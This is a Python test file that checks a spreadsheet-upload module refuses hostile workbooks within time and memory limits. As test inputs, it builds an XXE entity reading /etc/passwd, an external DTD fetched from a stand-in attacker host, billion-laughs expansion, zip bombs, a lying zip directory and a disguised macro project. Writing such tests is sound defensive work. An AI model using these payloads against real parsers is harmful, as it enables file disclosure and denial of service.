"""Uploaded workbooks are read within limits: every pathological file below is refused with its
reason, within a time and memory budget measured here (generous: the old code took 36–62 s and
1.2 GB on such files), and the cells a layout needs are still read from real workbooks."""

from __future__ import annotations

import io
import os
import random
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

import openpyxl
import pytest

from training.services.workbook_limits import (
    CHUNK,
    REASONS,
    WorkbookRejected,
    open_workbook_safely,
    read_ranges,
)

SECONDS = 3.0
PEAK_BYTES = 50 * 1024 * 1024
ROOT = Path(__file__).resolve().parents[2]
OFFICIAL = next(
    (
        folder / "shared" / "reference" / "undrr" / "preliminary-tool-v1.0-2017.xlsm"
        for folder in (ROOT.parent, ROOT.parent.parent)
        if (folder / "shared" / "reference" / "undrr").is_dir()
    ),
    Path("preliminary-tool-v1.0-2017.xlsm-not-found"),
)
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def valid_workbook() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Data"
    sheet.append(["ID", "Score"])
    sheet.append(["P1.1", 2])
    sheet.append(["P1.2", 3])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite(data: bytes, replace: dict[str, bytes | Callable[[], Iterable[bytes]]]) -> bytes:
    """The workbook with members replaced or added; a callable yields a member's bytes in pieces
    (written as a stream, never held whole)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in replace:
                target.writestr(info, source.read(info.filename))
        for name, content in replace.items():
            if callable(content):
                with target.open(name, "w", force_zip64=True) as stream:
                    for piece in content():
                        stream.write(piece)
            else:
                target.writestr(name, content)
    return out.getvalue()


def sheet_xml(dimension: str = "A1:B3", prolog: bytes = b"") -> bytes:
    head = SHEET_HEAD if not prolog else SHEET_HEAD.replace(b"\n", b"\n" + prolog, 1)
    return (
        head
        + (
            f'<dimension ref="{dimension}"/><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c></row>'
            "</sheetData></worksheet>"
        ).encode()
    )


def million_rows() -> Iterable[bytes]:
    yield SHEET_HEAD + b"<sheetData>"
    for start in range(1, 1_000_001, 10_000):
        yield "".join(
            f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>X{r}</t></is></c></row>'
            for r in range(start, start + 10_000)
        ).encode()
    yield b"</sheetData></worksheet>"


def zeros(size: int) -> Callable[[], Iterable[bytes]]:
    return lambda: (b"\0" * (1024 * 1024) for _ in range(size // (1024 * 1024)))


XXE = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = b'<!DOCTYPE worksheet SYSTEM "http://attacker.example/evil.dtd">'
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def lying_directory() -> bytes:
    """A member whose central directory entry states 100 bytes although it holds 5 MB."""
    data = rewrite(valid_workbook(), {"xl/media/big.bin": zeros(5 * 1024 * 1024)})
    at = data.rfind(b"PK\x01\x02")
    while data[at + 46 : at + 46 + 16] != b"xl/media/big.bin":
        at = data.rfind(b"PK\x01\x02", 0, at)
    return data[: at + 24] + struct.pack("<I", 100) + data[at + 28 :]


CASES = {
    "random bytes": (lambda: os.urandom(20_000), "not_a_workbook"),
    "a CSV renamed .xlsx": (lambda: b"ID,Score\nP1.1,2\n" * 100, "not_a_workbook"),
    "a truncated workbook": (lambda: valid_workbook()[:1500], "not_a_workbook"),
    "a zip that is no workbook": (
        lambda: rewrite(rewrite(valid_workbook(), {}), {"[Content_Types].xml": b"<Types/>"}),
        "not_a_workbook",
    ),
    "a sheet declaring 1,048,576 x 16,384 cells": (
        lambda: rewrite(valid_workbook(), {SHEET: sheet_xml("A1:XFD1048576")}),
        "too_many_cells",
    ),
    "a zip bomb (ratio over 100)": (
        lambda: rewrite(valid_workbook(), {"xl/media/image1.png": zeros(6 * 1024 * 1024)}),
        "too_compressed",
    ),
    "a million rows": (lambda: rewrite(valid_workbook(), {SHEET: million_rows}), "member_too_large"),
    "an external entity (XXE)": (
        lambda: rewrite(valid_workbook(), {SHEET: sheet_xml(prolog=XXE)}),
        "forbidden_xml",
    ),
    "billion laughs": (lambda: rewrite(valid_workbook(), {SHEET: sheet_xml(prolog=LAUGHS)}), "forbidden_xml"),
    "a DTD in the manifest": (
        lambda: rewrite(
            valid_workbook(),
            {"[Content_Types].xml": b'<?xml version="1.0"?>' + LAUGHS + b"<Types>&lol9;</Types>"},
        ),
        "forbidden_xml",
    ),
    "a DTD across two pieces read": (  # "<!DOC" ends the first 64 KB unpacked, "TYPE" starts the next
        lambda: rewrite(
            valid_workbook(),
            {
                SHEET: b'<?xml version="1.0"?>'
                + b" " * (CHUNK - 26)
                + sheet_xml(prolog=XXE).split(b"?>\n", 1)[1]
            },
        ),
        "forbidden_xml",
    ),
    "a DTD hidden in UTF-16": (
        lambda: rewrite(valid_workbook(), {SHEET: sheet_xml(prolog=XXE).decode().encode("utf-16")}),
        "forbidden_xml",
    ),
    "a macro-enabled workbook (.xlsm)": (
        lambda: rewrite(valid_workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}),
        "macros",
    ),
    "a directory that lies about a size": (lying_directory, "not_a_workbook"),
}


@pytest.mark.parametrize("make, reason", CASES.values(), ids=list(CASES))
def test_a_pathological_file_is_refused_within_budget(make, reason):
    data = make()
    tracemalloc.start()
    started = time.thread_time()
    try:
        with (
            pytest.raises(WorkbookRejected) as rejected,
            open_workbook_safely(data, max_file_bytes=32 * 1024 * 1024) as book,
        ):
            list(book.rows(book.sheetnames[0], max_row=100, max_col=10))
        elapsed = time.thread_time() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rejected.value.reason == reason, rejected.value
    assert elapsed < SECONDS, f"{elapsed:.1f} s"
    assert peak < PEAK_BYTES, f"{peak / 2**20:.0f} MB"


def test_the_uncompressed_total_is_limited_over_all_members():
    parts = {f"xl/media/part{i}.bin": os.urandom(1024 * 1024) for i in range(5)}
    with pytest.raises(WorkbookRejected) as rejected:
        open_workbook_safely(rewrite(valid_workbook(), parts), max_total=4 * 1024 * 1024)
    assert rejected.value.reason == "too_much_data"


def test_the_number_of_members_is_limited():
    parts = {f"xl/media/part{i}.bin": b"x" for i in range(40)}
    with pytest.raises(WorkbookRejected) as rejected:
        open_workbook_safely(rewrite(valid_workbook(), parts), max_members=30)
    assert rejected.value.reason == "too_many_members"


def test_the_file_size_is_limited():
    with pytest.raises(WorkbookRejected) as rejected:
        open_workbook_safely(valid_workbook(), max_file_bytes=1000)
    assert rejected.value.reason == "too_large"


def test_cells_beyond_the_limit_are_refused_even_without_a_dimension():
    def rows():
        yield SHEET_HEAD + b"<sheetData>"
        yield b"".join(f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>'.encode() for r in range(1, 2001))
        yield b"</sheetData></worksheet>"

    with pytest.raises(WorkbookRejected) as rejected:
        open_workbook_safely(rewrite(valid_workbook(), {SHEET: rows}), max_cells=1000)
    assert rejected.value.reason == "too_many_cells"


def test_reading_stops_at_the_time_budget():
    with pytest.raises(WorkbookRejected) as rejected:
        open_workbook_safely(valid_workbook(), seconds=0)
    assert rejected.value.reason == "too_slow"


def test_only_the_asked_ranges_are_read():
    values = read_ranges(valid_workbook(), {"Data": ["A2:B3", "B2", "C1:C2"]})
    assert values == {"Data": {"A2:B3": [["P1.1", 2], ["P1.2", 3]], "B2": [[2]], "C1:C2": [[None], [None]]}}
    with pytest.raises(WorkbookRejected) as rejected:
        read_ranges(valid_workbook(), {"Nope": ["A1"]})
    assert rejected.value.reason == "missing_sheet"


def test_rows_are_bounded_by_the_limits_whatever_is_asked():
    with open_workbook_safely(valid_workbook(), max_rows=3, max_cols=2) as book:
        rows = list(book.rows("Data", max_row=1_000_000, max_col=16_384))
    assert rows == [("ID", "Score"), ("P1.1", 2), ("P1.2", 3)]


@pytest.mark.skipif(not OFFICIAL.exists(), reason="UNDRR's workbook is not next to the checkout")
def test_the_official_undrr_workbook_opens_with_macros_allowed():
    data = OFFICIAL.read_bytes()
    with pytest.raises(WorkbookRejected) as rejected:
        open_workbook_safely(data)
    assert rejected.value.reason == "macros"
    values = read_ranges(data, {"Results": ["C175:C176"], "E01": ["B3"]}, allow_macros=True)
    assert values == {"Results": {"C175:C176": [["P1.1"], ["P1.2"]]}, "E01": {"B3": [["P1.1 - Plan making"]]}}


def test_damaged_workbooks_are_refused_never_an_unexpected_error():
    """A seeded fuzz: bytes changed here and there, or cut short."""
    good, rng = valid_workbook(), random.Random(21)
    for _ in range(150):
        data = bytearray(good)
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        if rng.random() < 0.2:
            data = data[: rng.randrange(len(data))]
        try:
            with open_workbook_safely(bytes(data)) as book:
                for sheet in book.sheetnames:
                    list(book.rows(sheet, max_row=50, max_col=10))
        except WorkbookRejected as rejected:
            assert rejected.reason in REASONS
